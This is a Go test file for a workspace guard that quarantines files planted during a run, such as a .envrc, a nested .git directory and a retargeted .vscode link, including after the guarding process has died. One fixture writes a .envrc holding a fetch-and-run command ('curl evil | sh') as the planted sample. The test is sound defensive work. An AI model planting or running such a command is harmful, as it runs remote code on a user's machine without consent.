package workspace

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"
)

// TestResumeGuard: a Guard made again from its State, in place of one
// whose process died, quarantines what its run planted as the first
// would have: a path that was absent, a nested git directory and a
// retargeted link; what existed at the start stays.
func TestResumeGuard(t *testing.T) {
	ws := t.TempDir()
	os.MkdirAll(filepath.Join(ws, ".git/hooks"), 0o755)
	os.WriteFile(filepath.Join(ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
	os.WriteFile(filepath.Join(ws, ".editorconfig"), []byte("root = true\n"), 0o644)
	os.Mkdir(filepath.Join(ws, "real-vscode"), 0o755)
	os.Symlink("real-vscode", filepath.Join(ws, ".vscode"))
	g, err := NewGuard(ws, GuardOptions{Writable: true})
	if err != nil {
		t.Fatal(err)
	}
	state, err := g.State()
	if err != nil {
		t.Fatal(err)
	}
	g.Close() // the process that made it is gone
	time.Sleep(20 * time.Millisecond)
	os.WriteFile(filepath.Join(ws, ".envrc"), []byte("curl evil | sh\n"), 0o644)
	os.MkdirAll(filepath.Join(ws, "sub/.git"), 0o755)
	os.WriteFile(filepath.Join(ws, "sub/.git/config"), []byte("[core]\n"), 0o644)
	os.Remove(filepath.Join(ws, ".vscode"))
	os.Mkdir(filepath.Join(ws, "other"), 0o755)
	os.Symlink("other", filepath.Join(ws, ".vscode"))

	r, err := ResumeGuard(state)
	if err != nil {
		t.Fatal(err)
	}
	moved, err := r.Finish(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, m := range moved {
		got = append(got, m.Path)
	}
	slices.Sort(got)
	want := []string{".envrc", ".vscode"}
	if !slices.Equal(got, want) {
		t.Errorf("quarantined %q, want %q", got, want)
	}
	if l, _ := os.Readlink(filepath.Join(ws, ".vscode")); l != "real-vscode" {
		t.Errorf(".vscode leads to %q, want it put back to real-vscode", l)
	}
	if _, err := os.Stat(filepath.Join(ws, ".editorconfig")); err != nil {
		t.Error("a file of the person's was moved:", err)
	}
}

// TestResumeGuardMoved: a workspace replaced by another directory at its
// path is not the one the Guard opened, and nothing is done there.
func TestResumeGuardMoved(t *testing.T) {
	parent := t.TempDir()
	ws := filepath.Join(parent, "ws")
	os.Mkdir(ws, 0o755)
	g, err := NewGuard(ws, GuardOptions{Writable: true})
	if err != nil {
		t.Fatal(err)
	}
	state, err := g.State()
	g.Close()
	if err != nil {
		t.Fatal(err)
	}
	// Positive control: the same state resumes while ws is the same.
	r, err := ResumeGuard(state)
	if err != nil {
		t.Fatal("same directory:", err)
	}
	r.Close()
	os.Rename(ws, ws+".old")
	os.Mkdir(ws, 0o755)
	if _, err := ResumeGuard(state); !errors.Is(err, ErrGuardMoved) {
		t.Errorf("resume over another directory: %v, want ErrGuardMoved", err)
	}
	if _, err := ResumeGuard([]byte(`{"version":9}`)); err == nil {
		t.Error("a state of another version resumed")
	}
	// A Guard of a root the command cannot write has nothing to finish.
	ro, err := NewGuard(ws, GuardOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if s, err := ro.State(); s != nil || err != nil {
		t.Errorf("State of a read-only guard: %q, %v", s, err)
	}
}

// TestResumeGuardOddPath: a workspace whose path is not UTF-8, and holds
// a space and a quote, comes back from the state as it was (JSON would
// have replaced the byte), and its planted file is quarantined.
func TestResumeGuardOddPath(t *testing.T) {
	ws := filepath.Join(t.TempDir(), "odd \xff \"ws\"")
	if err := os.Mkdir(ws, 0o755); err != nil {
		t.Skipf("this filesystem takes no such name: %v", err)
	}
	g, err := NewGuard(ws, GuardOptions{Writable: true})
	if err != nil {
		t.Fatal(err)
	}
	state, err := g.State()
	g.Close()
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(20 * time.Millisecond)
	os.WriteFile(filepath.Join(ws, ".envrc"), []byte("x\n"), 0o644)
	r, err := ResumeGuard(state)
	if err != nil {
		t.Fatalf("resume: %v\n%s", err, state)
	}
	moved, err := r.Finish(t.TempDir())
	if err != nil || len(moved) != 1 || moved[0].Path != ".envrc" {
		t.Errorf("quarantined %+v, %v", moved, err)
	}
}
